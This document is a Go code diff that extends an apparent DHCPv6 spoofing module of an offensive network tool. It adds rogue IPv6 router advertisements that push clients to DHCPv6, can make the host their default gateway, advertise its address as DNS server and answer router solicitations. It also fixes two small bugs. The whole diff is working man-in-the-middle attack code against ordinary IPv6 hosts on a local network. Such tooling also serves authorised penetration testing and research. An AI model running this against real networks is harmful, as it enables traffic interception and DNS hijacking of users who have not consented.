@@ -31,6 +31,9 @@ type DHCP6Spoofer struct {
 	DUIDRaw       []byte
 	Domains       []string
 	RawDomains    []byte
+	RA            bool
+	RAPeriod      time.Duration
+	RAConfig      packets.RouterAdvertisement
 	waitGroup     *sync.WaitGroup
 	pktSourceChan chan gopacket.Packet
 }
@@ -47,6 +50,39 @@ func NewDHCP6Spoofer(s *session.Session) *DHCP6Spoofer {
 		``,
 		"Comma separated values of domain names to spoof."))
 
+	mod.AddParam(session.NewBoolParameter("dhcp6.spoof.ra",
+		"false",
+		"If true, periodically send router advertisements forcing clients to use DHCPv6."))
+
+	mod.AddParam(session.NewIntParameter("dhcp6.spoof.ra.period",
+		"10",
+		"Period in seconds between router advertisements."))
+
+	mod.AddParam(session.NewBoolParameter("dhcp6.spoof.ra.managed",
+		"true",
+		"Set the managed address configuration (M) flag in router advertisements."))
+
+	mod.AddParam(session.NewBoolParameter("dhcp6.spoof.ra.other",
+		"true",
+		"Set the other configuration (O) flag in router advertisements."))
+
+	mod.AddParam(session.NewIntParameter("dhcp6.spoof.ra.lifetime",
+		"0",
+		"Router lifetime in seconds, if greater than 0 clients will use this host as their default IPv6 gateway."))
+
+	mod.AddParam(session.NewStringParameter("dhcp6.spoof.ra.prefix",
+		"",
+		"",
+		"Optional IPv6 prefix to advertise (e.g. fd00::/64), also used for the assigned addresses."))
+
+	mod.AddParam(session.NewIntParameter("dhcp6.spoof.ra.prefix.valid",
+		"300",
+		"Valid lifetime in seconds of the advertised prefix."))
+
+	mod.AddParam(session.NewIntParameter("dhcp6.spoof.ra.prefix.preferred",
+		"120",
+		"Preferred lifetime in seconds of the advertised prefix."))
+
 	mod.AddHandler(session.NewModuleHandler("dhcp6.spoof on", "",
 		"Start the DHCPv6 spoofer in the background.",
 		func(args []string) error {
@@ -81,11 +117,15 @@ func (mod *DHCP6Spoofer) Configure() error {
 		return session.ErrAlreadyStarted
 	}
 
+	if err = mod.configureRA(); err != nil {
+		return err
+	}
+
 	if mod.Handle, err = pcap.OpenLive(mod.Session.Interface.Name(), 65536, true, pcap.BlockForever); err != nil {
 		return err
 	}
 
-	err = mod.Handle.SetBPFFilter("ip6 and udp")
+	err = mod.Handle.SetBPFFilter("ip6 and (udp or icmp6)")
 	if err != nil {
 		return err
 	}
@@ -110,6 +150,85 @@ func (mod *DHCP6Spoofer) Configure() error {
 	return nil
 }
 
+func (mod *DHCP6Spoofer) configureRA() error {
+	var err error
+	var period, lifetime, valid, preferred int
+	var prefix string
+
+	if err, mod.RA = mod.BoolParam("dhcp6.spoof.ra"); err != nil {
+		return err
+	} else if err, period = mod.IntParam("dhcp6.spoof.ra.period"); err != nil {
+		return err
+	} else if err, mod.RAConfig.Managed = mod.BoolParam("dhcp6.spoof.ra.managed"); err != nil {
+		return err
+	} else if err, mod.RAConfig.Other = mod.BoolParam("dhcp6.spoof.ra.other"); err != nil {
+		return err
+	} else if err, lifetime = mod.IntParam("dhcp6.spoof.ra.lifetime"); err != nil {
+		return err
+	} else if err, prefix = mod.StringParam("dhcp6.spoof.ra.prefix"); err != nil {
+		return err
+	} else if err, valid = mod.IntParam("dhcp6.spoof.ra.prefix.valid"); err != nil {
+		return err
+	} else if err, preferred = mod.IntParam("dhcp6.spoof.ra.prefix.preferred"); err != nil {
+		return err
+	}
+
+	if period <= 0 {
+		return fmt.Errorf("dhcp6.spoof.ra.period must be greater than 0")
+	} else if lifetime < 0 || lifetime > 0xffff {
+		return fmt.Errorf("dhcp6.spoof.ra.lifetime must be between 0 and %d", 0xffff)
+	} else if valid < 0 || preferred < 0 {
+		return fmt.Errorf("prefix lifetimes can't be negative")
+	} else if preferred > valid {
+		return fmt.Errorf("dhcp6.spoof.ra.prefix.preferred can't be greater than dhcp6.spoof.ra.prefix.valid")
+	}
+
+	mod.RAPeriod = time.Duration(period) * time.Second
+	mod.RAConfig.RouterLifetime = uint16(lifetime)
+	mod.RAConfig.ValidLifetime = uint32(valid)
+	mod.RAConfig.PreferredLifetime = uint32(preferred)
+	mod.RAConfig.DNS = mod.Session.Interface.IPv6
+	mod.RAConfig.DNSLifetime = uint32(period * 3)
+	mod.RAConfig.Prefix = nil
+
+	if prefix != "" {
+		_, ipnet, err := net.ParseCIDR(prefix)
+		if err != nil {
+			return fmt.Errorf("could not parse dhcp6.spoof.ra.prefix: %s", err)
+		} else if ipnet.IP.To4() != nil {
+			return fmt.Errorf("%s is not an IPv6 prefix", prefix)
+		} else if bits, _ := ipnet.Mask.Size(); bits > 96 {
+			return fmt.Errorf("dhcp6.spoof.ra.prefix must be at most /96")
+		}
+		mod.RAConfig.Prefix = ipnet
+	}
+
+	return nil
+}
+
+func (mod *DHCP6Spoofer) sendRA() {
+	if mod.Session.Interface.IPv6 == nil {
+		mod.Error("Interface %s has no IPv6 address, can't send router advertisements.", mod.Session.Interface.Name())
+	} else if err, raw := packets.NewRouterAdvertisement(mod.Session.Interface.IPv6, mod.Session.Interface.HW, mod.RAConfig); err != nil {
+		mod.Error("Error creating router advertisement: %s", err)
+	} else if err = mod.Session.Queue.Send(raw); err != nil {
+		mod.Error("Error sending router advertisement: %s", err)
+	} else {
+		mod.Debug("Sent %d bytes of router advertisement.", len(raw))
+	}
+}
+
+// addressFor returns the IPv6 address to assign to a host with the given IPv4 address.
+func (mod *DHCP6Spoofer) addressFor(ip net.IP) net.IP {
+	if mod.RAConfig.Prefix != nil && ip.To4() != nil {
+		addr := make(net.IP, net.IPv6len)
+		copy(addr, mod.RAConfig.Prefix.IP.To16())
+		copy(addr[12:], ip.To4())
+		return addr
+	}
+	return net.ParseIP(fmt.Sprintf("%s%s", packets.IPv6Prefix, strings.Replace(ip.String(), ".", ":", -1)))
+}
+
 func (mod *DHCP6Spoofer) dhcp6For(what dhcp6.MessageType, to dhcp6.Packet) (err error, p dhcp6.Packet) {
 	err, p = packets.DHCP6For(what, to, mod.DUIDRaw)
 	if err != nil {
@@ -153,12 +272,11 @@ func (mod *DHCP6Spoofer) dhcpAdvertise(pkt gopacket.Packet, solicit dhcp6.Packet
 		ip = h.IP
 	} else {
 		mod.Warning("Address %s not known, using random identity association address.", target.String())
+		ip = make(net.IP, net.IPv4len)
 		rand.Read(ip)
 	}
 
-	addr := fmt.Sprintf("%s%s", packets.IPv6Prefix, strings.Replace(ip.String(), ".", ":", -1))
-
-	iaaddr, err := dhcp6opts.NewIAAddr(net.ParseIP(addr), 300*time.Second, 300*time.Second, nil)
+	iaaddr, err := dhcp6opts.NewIAAddr(mod.addressFor(ip), 300*time.Second, 300*time.Second, nil)
 	if err != nil {
 		mod.Error("Error creating IAAddr: %s", err)
 		return
@@ -330,10 +448,19 @@ func (mod *DHCP6Spoofer) onPacket(pkt gopacket.Packet) {
 	var dhcp dhcp6.Packet
 	var err error
 
-	udp := pkt.Layer(layers.LayerTypeUDP).(*layers.UDP)
-	if udp == nil {
+	if pkt.Layer(layers.LayerTypeICMPv6RouterSolicitation) != nil {
+		if mod.RA {
+			mod.Debug("Got router solicitation, sending router advertisement.")
+			mod.sendRA()
+		}
+		return
+	}
+
+	ludp := pkt.Layer(layers.LayerTypeUDP)
+	if ludp == nil {
 		return
 	}
+	udp := ludp.(*layers.UDP)
 
 	// we just got a dhcp6 packet?
 	if err = dhcp.UnmarshalBinary(udp.Payload); err == nil {
@@ -365,6 +492,16 @@ func (mod *DHCP6Spoofer) Start() error {
 		mod.waitGroup.Add(1)
 		defer mod.waitGroup.Done()
 
+		if mod.RA {
+			mod.Info("Sending router advertisements every %s.", mod.RAPeriod)
+			go func() {
+				for mod.Running() {
+					mod.sendRA()
+					time.Sleep(mod.RAPeriod)
+				}
+			}()
+		}
+
 		src := gopacket.NewPacketSource(mod.Handle, mod.Handle.LinkType())
 		mod.pktSourceChan = src.Packets()
 		for packet := range mod.pktSourceChan {